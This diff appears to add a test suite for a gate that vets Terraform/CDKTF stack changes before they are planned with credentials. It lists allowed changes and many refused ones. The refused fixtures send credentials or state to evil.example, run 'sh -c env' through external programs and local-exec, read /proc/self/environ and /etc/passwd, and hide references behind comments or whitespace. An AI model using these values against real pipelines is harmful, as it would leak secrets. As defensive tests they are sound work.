@@ -1,0 +1,199 @@
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { reviewAdmitCommand } from '../../../review/commands';
+import { refusals } from '../../../review/admission/admission';
+import { BEFORE, CHANGES } from '../support/changes';
+import { demo } from '../support/demo';
+import { runCommand } from '../support/command';
+import { newStack, synth } from '../../support/synth';
+
+type Json = Record<string, unknown>;
+
+const merged = (): Json => ({
+  terraform: { required_providers: { cloudfoundry: { source: 'cloudfoundry/cloudfoundry' } } },
+  provider: { cloudfoundry: [{}] },
+  variable: { seed: { sensitive: true } },
+  data: {
+    cloudfoundry_domain: { internal: { name: 'apps.internal' } },
+    cloudfoundry_app: { other: { name: 'other' } },
+    external: { merged: { program: ['./known'] } },
+  },
+  resource: {
+    cloudfoundry_app: { web: { name: 'web', environment: { EGRESS_ALLOW: 'a.example.gov:443' } } },
+    docker_image: { proxy: { name: 'registry.example/proxy:1' } },
+  },
+});
+
+/** What is refused when the merged stack gets another value at a path. */
+function refused(path: string, value: unknown): string[] {
+  const json = merged();
+  const names = path.split('/');
+  const last = names.pop() ?? '';
+  const place = names.reduce((at, name) => (at[name] ??= {}) as Json, json);
+  place[last] = value;
+  return refusals([{ name: 'stack', json }], [{ name: 'stack', json: merged() }]);
+}
+
+const inList = (expression: string) =>
+  refused('resource/cloudfoundry_app/web/environment/EGRESS_ALLOW', `\${${expression}}`);
+
+describe('what may be planned with credentials', () => {
+  it('is what the default branch has', () => {
+    expect(refusals([{ name: 'stack', json: merged() }], [{ name: 'stack', json: merged() }])).toEqual([]);
+  });
+
+  it.each(CHANGES)('is the change of the documentation: $title', ({ change }) => {
+    const stack = (program: typeof BEFORE) => [
+      {
+        name: 'demo',
+        json: JSON.parse(
+          synth((app) => {
+            program(newStack(app, 'demo'));
+          }).demo?.text ?? '',
+        ) as unknown,
+      },
+    ];
+    expect(refusals(stack(demo(change)), stack(BEFORE))).toEqual([]);
+  });
+
+  it.each([
+    ['another line of a list', 'resource/cloudfoundry_app/web/environment/EGRESS_ALLOW', 'b.example.gov:443'],
+    ['a new look-up of a name', 'data/cloudfoundry_space/home', { name: 'home', org: '${data.cloudfoundry_org.o.id}' }],
+    ['a renamed resource', 'moved', [{ from: 'cloudfoundry_app.web', to: 'cloudfoundry_app.front' }]],
+    ['an output of an id', 'output/id', { value: '${cloudfoundry_app.web.id}' }],
+    ['a pushed image', 'resource/docker_registry_image/proxy', { name: '${docker_image.proxy.name}' }],
+    [
+      'a client’s password, as the library derives it',
+      'resource/terraform_data/hash',
+      { input: { hash: '${bcrypt(sha256(join(":", [var.seed, "web", "1"])), 5)}' } },
+    ],
+    [
+      'what hashes the credentials of a service',
+      'resource/cloudfoundry_app/web/environment/HASH',
+      '${sha256(jsonencode({"bucket" = "egress-demo", "key" = var.seed}))}',
+    ],
+    ['a hash, looked up', 'resource/cloudfoundry_app/web/environment/H', '${lookup(terraform_data.h.output, "hash")}'],
+  ])('is %s', (_, path, value) => {
+    expect(refused(path, value)).toEqual([]);
+  });
+
+  it.each([
+    ['another address for the password', 'provider/cloudfoundry', [{ api_url: 'https://evil.example' }]],
+    ['another provider', 'terraform/required_providers/x', { source: 'evil/x' }],
+    ['another state', 'terraform/backend', { http: { address: 'https://evil.example' } }],
+    ['a secret that is none any more', 'variable/seed/sensitive', false],
+    ['a module', 'module/x', { source: 'git::https://evil.example/x' }],
+    ['a function by another name', 'locals/x', '${var.seed}'],
+    ['an import of something that is not ours', 'import', [{ to: 'cloudfoundry_app.x', id: 'guid' }]],
+    ['a section that nobody knows', 'ephemeral/x/y', {}],
+    ['a section with the name of what every object has', 'constructor', {}],
+    ['a program', 'data/external/x', { program: ['sh', '-c', 'env'] }],
+    ['a program that was changed', 'data/external/merged/program', ['sh', '-c', 'env']],
+    ['a request to anywhere', 'data/http/x', { url: 'https://evil.example' }],
+    ['another state’s outputs', 'data/terraform_remote_state/x', { backend: 'http' }],
+    ['a look-up that answers with secrets', 'data/cloudfoundry_app/x', { name: 'victim' }],
+    ['a resource of another provider', 'resource/null_resource/x', {}],
+    ['a provisioner', 'resource/terraform_data/x', { provisioner: { 'local-exec': { command: 'env' } } }],
+    ['several bodies in one', 'resource/cloudfoundry_app/x', [{ name: 'x' }]],
+    ['a list of sections', 'resource', [{ external: {} }]],
+    ['a secret in an image’s name', 'resource/docker_image/proxy/name', 'evil.example/${sha256(var.seed)}'],
+    [
+      'an expression under a key that is a comment elsewhere',
+      'resource/cloudfoundry_route/x',
+      { for_each: { '//': '${filebase64("/proc/self/environ")}' }, host: '${each.value}' },
+    ],
+    ['a secret in a look-up', 'data/cloudfoundry_org/x', { name: '${base64encode(var.seed)}' }],
+    ['a name that may hold a secret, looked up', 'data/cloudfoundry_org/x', { name: '${cloudfoundry_app.web.name}' }],
+    [
+      'a secret in each of several look-ups',
+      'data/cloudfoundry_org/x',
+      { for_each: { a: '${var.seed}' }, name: '${each.value}' },
+    ],
+    ['an expression in a name', 'resource/cloudfoundry_app/web/environment', { '${file("/etc/passwd")}': 'x' }],
+  ])('is not %s', (_, path, value) => {
+    expect(refused(path, value).length).toBeGreaterThan(0);
+  });
+
+  it.each([
+    ['reads a file', 'file("/proc/self/environ")'],
+    ['reads a file by a template', 'templatefile("/proc/self/environ", {})'],
+    ['takes off the mark of secrecy', 'nonsensitive(var.seed)'],
+    ['reads what an application holds', 'cloudfoundry_app.web.environment'],
+    ['reads what a looked-up application holds', 'data.cloudfoundry_app.other.environment'],
+    ['takes a resource as a whole', 'jsonencode(cloudfoundry_app.web)'],
+    ['looks up in a resource as a whole', 'lookup(cloudfoundry_app.web, "environment")'],
+    ['looks up by an index', 'cloudfoundry_app.web["environment"]'],
+    ['looks up by an index after a call', 'values(terraform_data.x.output)[0]'],
+    ['takes all instances', 'cloudfoundry_app.web.*.environment'],
+    ['hides a reference behind a comment', 'cloudfoundry_app/**/.var.environment'],
+    ['hides a reference behind a line’s comment', 'cloudfoundry_app#\n.var.environment'],
+    ['hides a reference behind blanks', 'cloudfoundry_app . web . environment'],
+    ['names a resource in other letters', 'cloudfoundry_app.é.environment'],
+    ['calls a function of a provider', 'provider::x::y(1)'],
+    ['nests a template', 'upper("${file("/etc/passwd")}")'],
+    ['nests a directive', 'upper("%{ if true }x%{ endif }")'],
+    ['writes a text in lines', '<<EOT\nx\nEOT'],
+  ])('is no expression that %s', (_, expression) => {
+    expect(inList(expression)).not.toEqual([]);
+  });
+
+  it('is no directive of a template, and no expression without an end', () => {
+    const path = 'resource/cloudfoundry_app/web/environment/EGRESS_ALLOW';
+    expect(refused(path, '%{ for x in [1] }${x}%{ endfor }')).not.toEqual([]);
+    expect(refused(path, '${upper("x")')).not.toEqual([]);
+    expect(refused(path, '$${ "} ${nonsensitive(var.seed)} " }')).not.toEqual([]);
+  });
+
+  it('is no new stack', () => {
+    expect(refusals([{ name: 'new', json: {} }], [{ name: 'stack', json: merged() }])).toEqual([
+      'new: the stack is new',
+    ]);
+  });
+});
+
+describe('space-egress review-admit', () => {
+  let folder: string;
+  beforeEach(() => {
+    folder = mkdtempSync(join(tmpdir(), 'review-admit-'));
+  });
+  afterEach(() => {
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  const write = (side: string, text: string, more: Readonly<Record<string, string>> = {}): string => {
+    const stack = join(folder, side, 'stacks', 'stack');
+    mkdirSync(stack, { recursive: true });
+    for (const [name, content] of Object.entries({ 'cdk.tf.json': text, ...more }))
+      writeFileSync(join(stack, name), content);
+    return join(folder, side);
+  };
+  const admit = (change: string) =>
+    runCommand(reviewAdmitCommand(), [
+      ...['--change', change, '--merged', write('merged', JSON.stringify(merged()))],
+      ...['--out', join(folder, 'out')],
+    ]);
+
+  it('writes what it has read and nothing else, so that a name that stands twice is not planned twice', async () => {
+    const text = JSON.stringify(merged());
+    const twice = `{"data":{"external":{"x":{"program":["sh"]}}},${text.slice(1)}`;
+    const change = write('change', twice, { 'evil.tf': 'data "external" "x" {}' });
+    expect(await admit(change)).toEqual({ out: '', error: '', code: 0 });
+    expect(JSON.parse(readFileSync(join(folder, 'out', 'stack', 'cdk.tf.json'), 'utf8'))).toEqual(merged());
+    expect(() => readFileSync(join(folder, 'out', 'stack', 'evil.tf'))).toThrow('ENOENT');
+  });
+
+  it('hands no comment on to the engine, and takes it for a value where the engine does', async () => {
+    const comment = { '//': { metadata: { path: 'demo/Web', note: '${file("/etc/passwd")}' } } };
+    const json = { ...merged(), ...comment, resource: { cloudfoundry_app: { x: { ...comment, name: 'x' } } } };
+    expect(await admit(write('change', JSON.stringify(json)))).toEqual({ out: '', error: '', code: 0 });
+    const written = JSON.parse(readFileSync(join(folder, 'out', 'stack', 'cdk.tf.json'), 'utf8')) as Json;
+    expect(written).toEqual({ ...merged(), resource: { cloudfoundry_app: { x: { name: 'x' } } } });
+  });
+
+  it('says why it may not be planned, and writes nothing', async () => {
+    const change = write('change', JSON.stringify({ ...merged(), provider: {} }));
+    expect(await admit(change)).toEqual({ out: "stack: 'provider' is changed\n", error: '', code: 2 });
+    expect(() => readFileSync(join(folder, 'out', 'stack', 'cdk.tf.json'))).toThrow('ENOENT');
+  });
+});
